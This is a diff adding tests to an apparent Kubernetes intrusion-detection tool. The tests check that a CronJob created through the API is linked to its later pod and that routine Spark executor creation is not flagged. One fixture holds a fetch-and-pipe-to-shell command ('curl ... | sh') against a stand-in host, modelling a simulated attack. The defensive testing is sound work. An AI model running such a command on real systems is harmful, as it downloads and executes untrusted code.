@@ -478,3 +478,59 @@ def test_what_the_reached_pods_server_fetched_for_the_attacker_is_a_download_end
     assert sorted((e.ip, e.port, e.role) for e in i.endpoints) == [("203.0.113.7", 6379, "download"),
                                                                    ("203.0.113.8", 4444, "c2")]
     assert "T1105" in i.techniques
+
+
+A = {"exec_id": pl.String, "linked_exec_id": pl.String, "link": pl.String, "time_ns": pl.Int64,
+     "event_id": pl.String, "verb": pl.String, "resource": pl.String, "subresource": pl.String,
+     "namespace": pl.String, "name": pl.String, "created_name": pl.String, "target_pod": pl.String,
+     "user": pl.String, "code": pl.Int64, "src_namespace": pl.String}
+
+
+def _api(rows):
+    return pl.DataFrame([{**dict.fromkeys(A), **r} for r in rows], schema=A)
+
+
+def test_a_cronjob_created_through_the_api_is_an_act_that_reaches_the_pod_it_runs_later():
+    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+             proc("appmain", None, "app-1", "/srv/app", t=-100 * S, seen="event"),
+             proc("sh", "appmain", "app-1", "/bin/sh", "-c /tmp/k create cronjob", 100 * S),
+             proc("k", "sh", "app-1", "/tmp/k", "-n b create cronjob rec", 100 * S + 5 * MS),
+             # minutes later the CronJob's Job makes a pod; its entrypoint fetches from outside
+             proc("jsh", "runtime", "rec-28640115-dx7q2", "/bin/sh", "-c curl -s http://x/c|sh", 400 * S, ns="b",
+                  node="n2", workload="rec"),
+             proc("jcurl", "jsh", "rec-28640115-dx7q2", "/usr/bin/curl", "-s http://x/c", 400 * S + 5 * MS,
+                  ns="b", node="n2", init=False, workload="rec")]
+    flows = [flow("f1", 400 * S + 6 * MS, "jcurl", ("b", "rec-28640115-dx7q2"), None, 443, dst_ip="203.0.113.50")]
+    api = _api([{"exec_id": "k", "time_ns": 100 * S + 40 * MS, "event_id": "a1", "verb": "create",
+                 "resource": "cronjobs", "namespace": "b", "name": "rec", "created_name": "rec", "code": 201,
+                 "user": "system:serviceaccount:a:app", "src_namespace": "a"}])
+    f = find_in(**frames(procs, flows), api=api)
+    (i,) = f.incidents
+    assert i.pod == "app-1" and i.key_command.exec_id == "k"
+    assert [(r.pod, r.how) for r in i.reached] == [("rec-28640115-dx7q2", ["controller"])]
+    assert "T1053.007" in i.techniques
+    assert [e.ip for e in i.endpoints] == ["203.0.113.50"]
+
+
+def test_a_drivers_repeated_creates_of_its_executors_are_routine_not_an_incident():
+    procs = [proc("runtime", None, None, "/usr/bin/containerd-shim", t=-200 * S, seen="event"),
+             proc("later", "runtime", None, "/usr/bin/runc", t=1800 * S),  # the capture goes on
+             proc("drv", None, "agg-driver", "/usr/bin/java", "-cp x Submit", -100 * S, ns="d", seen="event",
+                  workload="agg-driver")]
+    api_rows, flows, hits = [], [], []
+    for n in range(1, 5):
+        pod = f"agg-3f9a2c-exec-{n}"
+        procs.append(proc(f"ex{n}", "runtime", pod, "/usr/bin/java", "-cp x Executor", 100 * S + n * S, ns="d",
+                          node="n2", workload="agg-exec"))
+        flows.append(flow(f"m{n}", 103 * S + n * S, f"ex{n}", ("d", pod), None, 443, dst_ip="203.0.113.60"))
+        api_rows.append({"exec_id": "drv", "linked_exec_id": f"ex{n}", "link": "created-pod",
+                         "time_ns": 99 * S + n * S, "event_id": f"a{n}", "verb": "create", "resource": "pods",
+                         "namespace": "d", "created_name": pod, "target_pod": pod, "src_namespace": "d",
+                         "user": "system:serviceaccount:d:spark", "code": 201})
+        hits.append({"rule_id": "pod-create", "title": "Pod created through the Kubernetes API by a workload",
+                     "level": "medium", "techniques": ["T1610"], "exec_id": "drv", "event_id": f"a{n}",
+                     "namespace": "d", "pod": "agg-driver", "workload": "agg-driver", "time_ns": 99 * S + n * S})
+    hits.append({"rule_id": "other", "title": "something else", "level": "low", "exec_id": "later",
+                 "time_ns": 1800 * S})  # detections span the capture
+    f = find_in(**frames(procs, flows, hits=_hits(hits)), api=_api(api_rows))
+    assert f.incidents == []
